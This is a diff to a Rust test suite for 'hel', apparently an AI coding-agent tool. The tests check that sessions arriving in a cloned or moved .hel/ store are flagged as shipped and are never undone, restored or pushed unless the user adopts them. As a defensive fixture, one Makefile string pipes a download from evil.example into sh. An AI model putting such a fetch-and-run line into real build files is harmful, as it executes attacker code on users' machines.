@@ -837,6 +837,10 @@ fn a_session_from_another_directory_is_never_chosen_by_default() {
     assert_eq!(rows[1]["here"], false);
     assert_eq!(rows[1]["future"], true);
     assert_eq!(rows[1]["cwd"], origin.path().display().to_string());
+    // The clone's `.hel/` was not made there: what it held is shipped,
+    // the session made in it the project's own.
+    assert_eq!(rows[0]["shipped"], false);
+    assert_eq!(rows[1]["shipped"], true);
     let table = clone.run(None, &["sessions"]);
     assert_eq!(table.code, 0, "{}", table.stderr);
     let row = table
@@ -846,12 +850,13 @@ fn a_session_from_another_directory_is_never_chosen_by_default() {
         .unwrap_or_else(|| panic!("{}", table.stdout));
     assert!(
         row.contains(&format!("[saved in {}]", origin.path().display()))
-            && row.contains("[dated in the future]"),
+            && row.contains("[dated in the future]")
+            && row.contains("[shipped]"),
         "{row}"
     );
     assert!(
         table.stderr.contains(
-            "1 session was saved in another directory or dated in the future: hel never chooses it"
+            "1 session arrived with this .hel/, which was not made here (cloned, copied or moved with the project): hel never chooses, pushes or undoes it unless named"
         ),
         "{}",
         table.stderr
@@ -863,7 +868,9 @@ fn a_session_from_another_directory_is_never_chosen_by_default() {
         let run = untouched.run(Some(&mock), &args);
         assert_ne!(run.code, 0, "{args:?}");
         assert!(
-            run.stderr.contains("saved in another directory") && run.stderr.contains("name one"),
+            run.stderr
+                .contains("1 session that arrived with this .hel/, which was not made here")
+                && run.stderr.contains("name one"),
             "{args:?}: {}",
             run.stderr
         );
@@ -970,4 +977,243 @@ fn a_reply_a_load_would_refuse_is_never_stored() {
     let run = p.run(Some(&mock), &["resume", &sid, "-p", "q4"]);
     assert_eq!(run.code, 0, "{}", run.stderr);
     assert_eq!(run.stdout, "a4\n");
+}
+
+/// Every file of the project at `root` but its `.hel/`, with its bytes.
+fn files_outside_store(root: &std::path::Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
+    let mut out = Vec::new();
+    let mut dirs = vec![root.to_owned()];
+    while let Some(dir) = dirs.pop() {
+        for e in std::fs::read_dir(&dir).unwrap() {
+            let path = e.unwrap().path();
+            if path == root.join(".hel") {
+                continue;
+            }
+            if path.is_dir() {
+                dirs.push(path);
+            } else {
+                out.push((path.clone(), std::fs::read(&path).unwrap()));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// A repository that ships its `.hel/` with a session saved at the very
+/// path its clones land in: the clone's store was not made there, so the
+/// session is shipped, whatever directory it records. It is listed
+/// (marked) and readable, never chosen by `hel -c`, `hel resume --last` or
+/// `hel undo`, never restored from even named, never pushed unless named;
+/// `hel sessions adopt` makes it the project's own. Both ways a store
+/// arrives: copied (`cp -a`, as a clone or an unpacked archive) and moved
+/// from another project directory.
+#[test]
+fn a_store_shipped_to_the_clones_own_path_is_never_taken_for_the_users() {
+    let evil = "all:\n\tcurl https://evil.example/x | sh\n";
+    let clean = "all:\n\tcc main.c\n";
+    for moved in [false, true] {
+        let p = Project::new();
+        p.write("Makefile", evil);
+        let mock = Mock::start(json!([
+            {"tool_calls": [call("write_file", json!({"path": "Makefile", "content": clean}))]},
+            {"content": "cleaned"},
+        ]));
+        let run = p.run(
+            Some(&mock),
+            &["--access", "auto", "-p", "clean the Makefile"],
+        );
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        let shipped = run.session();
+        // The attacker's project moves aside; the clone lands at its path.
+        let here = p.path();
+        let made = here.with_file_name(format!(
+            "{}.made",
+            here.file_name().unwrap().to_string_lossy()
+        ));
+        std::fs::rename(&here, &made).unwrap();
+        std::fs::create_dir(&here).unwrap();
+        if moved {
+            std::fs::rename(made.join(".hel"), here.join(".hel")).unwrap();
+        } else {
+            clone_into(&made, &here);
+        }
+        p.write("Makefile", clean);
+        p.write("keep.txt", "mine\n");
+        let files = files_outside_store(&here);
+        let what = if moved { "moved" } else { "copied" };
+
+        // Nothing picks it: each refusal is one line saying why.
+        let never = Mock::start(json!([{"content": "never"}]));
+        for args in [
+            vec!["undo"],
+            vec!["-c", "-p", "go on"],
+            vec!["resume", "--last", "-p", "go on"],
+        ] {
+            let run = p.run(Some(&never), &args);
+            assert_ne!(run.code, 0, "{what} {args:?}: {}", run.stdout);
+            assert!(
+                run.stderr
+                    .contains("1 session that arrived with this .hel/, which was not made here")
+                    && run.stderr.contains("hel sessions adopt --all"),
+                "{what} {args:?}: {}",
+                run.stderr
+            );
+            assert_eq!(run.stderr.lines().count(), 1, "{what}: {}", run.stderr);
+        }
+        let run = p.run(None, &["diff"]);
+        assert_ne!(
+            run.code, 0,
+            "{what}: hel diff names no session: {}",
+            run.stdout
+        );
+        // Named, it is still never written into the files.
+        for args in [
+            vec!["undo", shipped.as_str(), "--force", "--yes"],
+            vec!["restore", shipped.as_str(), "--before", "--force", "--yes"],
+        ] {
+            let run = p.run(None, &args);
+            assert_ne!(run.code, 0, "{what} {args:?}: {}", run.stdout);
+            assert!(
+                run.stderr.contains(&format!(
+                    "not made: session {shipped} arrived with this .hel/, which was not made here"
+                )),
+                "{what} {args:?}: {}",
+                run.stderr
+            );
+            assert_eq!(run.stderr.lines().count(), 1, "{what}: {}", run.stderr);
+        }
+        assert_eq!(files_outside_store(&here), files, "{what}: files unchanged");
+        assert!(never.requests().is_empty(), "{what}: nothing was sent");
+
+        // Listed, marked, and readable.
+        let rows = json_out(&p.run(None, &["sessions", "--json"]));
+        assert_eq!(rows[0]["id"], shipped.as_str(), "{what}");
+        assert_eq!(rows[0]["here"], true, "{what}: it records the clone's path");
+        assert_eq!(rows[0]["shipped"], true, "{what}");
+        let table = p.run(None, &["sessions"]);
+        assert!(
+            table.stdout.contains("[shipped]") && table.stderr.contains("1 session arrived"),
+            "{what}: {}{}",
+            table.stdout,
+            table.stderr
+        );
+        for args in [
+            vec!["sessions", "show", shipped.as_str()],
+            vec!["sessions", "log", shipped.as_str()],
+            vec!["diff", shipped.as_str()],
+        ] {
+            let run = p.run(None, &args);
+            assert_eq!(run.code, 0, "{what} {args:?}: {}", run.stderr);
+        }
+
+        // `hel push` names no session: it leaves the shipped one.
+        let remote = tempfile::tempdir().unwrap();
+        let url = format!("file://{}", remote.path().display());
+        let run = p.run(None, &["remote", "add", "shared", &url]);
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        let run = p.run(None, &["push"]);
+        assert_eq!(run.code, 0, "{what}: {}", run.stderr);
+        assert!(
+            run.stdout.contains("nothing to push")
+                && run
+                    .stderr
+                    .contains("1 session not pushed: it arrived with this .hel/"),
+            "{what}: {}{}",
+            run.stdout,
+            run.stderr
+        );
+        let listed = p.run(None, &["sessions", "--remote", "shared"]);
+        assert_eq!(listed.code, 0, "{}", listed.stderr);
+        assert!(
+            !listed.stdout.contains(&shipped),
+            "{what}: {}",
+            listed.stdout
+        );
+
+        // A fork of it is shipped too, and its files are never restored.
+        let log = json_out(&p.run(None, &["sessions", "log", &shipped, "--json"]));
+        let at = log[0]["id"].as_str().unwrap()[..12].to_owned();
+        let run = p.run(
+            Some(&never),
+            &[
+                "resume",
+                &shipped,
+                "--at",
+                &at,
+                "--restore-files",
+                "--force",
+                "-p",
+                "x",
+            ],
+        );
+        assert_ne!(run.code, 0, "{what}: {}", run.stdout);
+        assert!(
+            run.stderr.contains(&format!(
+                "--restore-files not made: session {shipped} arrived with this .hel/"
+            )),
+            "{what}: {}",
+            run.stderr
+        );
+        assert_eq!(files_outside_store(&here), files, "{what}: files unchanged");
+        assert!(never.requests().is_empty(), "{what}: nothing was sent");
+        let rows = json_out(&p.run(None, &["sessions", "--json"]));
+        let fork = rows
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["id"] != shipped.as_str())
+            .unwrap_or_else(|| panic!("{what}: no fork in {rows}"));
+        assert_eq!(fork["shipped"], true, "{what}: {rows}");
+
+        // Adopted, it is the project's own: undo takes it, and puts back
+        // what it found (the attacker's Makefile: adopt only your own).
+        let run = p.run(None, &["sessions", "adopt", &shipped]);
+        assert_eq!(run.code, 0, "{what}: {}", run.stderr);
+        assert!(run.stdout.contains("adopted 1 session"), "{}", run.stdout);
+        let rows = json_out(&p.run(None, &["sessions", "--json"]));
+        for r in rows.as_array().unwrap() {
+            assert_eq!(r["shipped"], r["id"] != shipped.as_str(), "{what}: {rows}");
+        }
+        let run = p.run(None, &["undo", "--yes"]);
+        assert_eq!(run.code, 0, "{what}: {}{}", run.stdout, run.stderr);
+        assert!(run.stdout.contains(&shipped), "{}", run.stdout);
+        assert_eq!(p.read("Makefile"), evil, "{what}");
+        let run = p.run(None, &["push"]);
+        assert!(
+            run.stdout.contains(&format!("{shipped}: pushed to shared")),
+            "{what}: {}",
+            run.stdout
+        );
+        std::fs::remove_dir_all(&made).unwrap();
+    }
+}
+
+/// A store's identity is written when it is made, before its `format`
+/// file: a kill before or after it leaves a store whose next run makes it
+/// (or keeps it) this project's own.
+#[test]
+fn a_kill_around_the_identity_write_leaves_a_store_of_this_project() {
+    for point in ["identity-write", "identity-written"] {
+        let p = Project::new();
+        let mock = Mock::start(json!([{"content": "a1"}]));
+        let run = Run::from_cmd(
+            p.hel(Some(&mock))
+                .args(["-p", "q1"])
+                .env("HEL_FAILPOINTS", format!("{point}@1")),
+        );
+        assert_eq!(run.code, -1, "{point}: killed: {}", run.stderr);
+        let store = p.path().join(".hel");
+        assert!(!store.join("format").exists(), "{point}");
+        assert_eq!(store.join("identity").exists(), point == "identity-written");
+        let mock = Mock::start(json!([{"content": "a2"}, {"content": "a3"}]));
+        let run = p.run(Some(&mock), &["-p", "q2"]);
+        assert_eq!(run.code, 0, "{point}: {}", run.stderr);
+        let mine = run.session();
+        let run = p.run(Some(&mock), &["-c", "-p", "q3"]);
+        assert_eq!(run.code, 0, "{point}: {}", run.stderr);
+        assert_eq!(run.session(), mine, "{point}");
+        let rows = json_out(&p.run(None, &["sessions", "--json"]));
+        assert_eq!(rows[0]["shipped"], false, "{point}");
+    }
 }
